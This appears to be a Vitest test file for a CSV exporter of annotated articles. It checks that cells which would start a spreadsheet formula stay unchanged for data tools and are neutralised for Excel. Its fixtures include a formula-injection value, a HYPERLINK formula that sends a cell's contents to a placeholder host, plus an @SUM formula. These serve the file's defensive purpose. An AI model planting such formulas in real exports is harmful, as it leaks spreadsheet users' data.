// The passages CSV with text a spreadsheet would run as a formula: kept as written for data
// tools, made inert for Excel.
import { describe, expect, it } from 'vitest';
import { CsvWriter, csvField, excelField } from './csv.js';
import type { AnnotatedArticle, ExportSource } from './source.js';

const title = '=HYPERLINK("http://example.invalid/?q="&A1,"Тошкент")';
const item = {
  article: { id: 1, uid: 'urn:uuid:1', title, date: '2025-11-10', lang: 'uz', url: null, text: 'Тошкентда учрашув бўлди.' },
  annotations: [{ id: 1, uid: 'urn:uuid:a', start: 0, end: 9, exact: 'Тошкентда', note: '@SUM(1+1)', tagIds: [7], createdAt: '2025-11-10T00:00:00Z' }],
} as unknown as AnnotatedArticle;
const src = { codebook: [{ id: 7, path: ['+Places'] }] } as unknown as ExportSource;

function written(excel: boolean): string {
  let out = '';
  const sink = { write: (t: string) => (out += t), end: () => undefined, bytes: 0 };
  new CsvWriter(src, sink, { excel }).article(item);
  return out;
}

describe('passages CSV and formulas', () => {
  it('keeps text exactly as written when not for Excel', () => {
    expect(csvField('-5 °C')).toBe('-5 °C');
    const csv = written(false);
    expect(csv).toContain(`"${title.replace(/"/g, '""')}"`);
    expect(csv).toContain(',@SUM(1+1),');
    expect(csv).toContain(',+Places,');
  });

  it('makes every cell that would start a formula plain text for Excel', () => {
    expect(excelField('=1+1')).toBe("'=1+1");
    expect(excelField('-5 °C')).toBe("'-5 °C");
    expect(excelField('Тошкент')).toBe('Тошкент');
    expect(excelField(12)).toBe('12');
    const csv = written(true);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain(`"'${title.replace(/"/g, '""')}"`);
    expect(csv).toContain(",'@SUM(1+1),");
    expect(csv).toContain(",'+Places,");
    expect(csv).not.toMatch(/(^|,)[=+@]/m);
  });
});
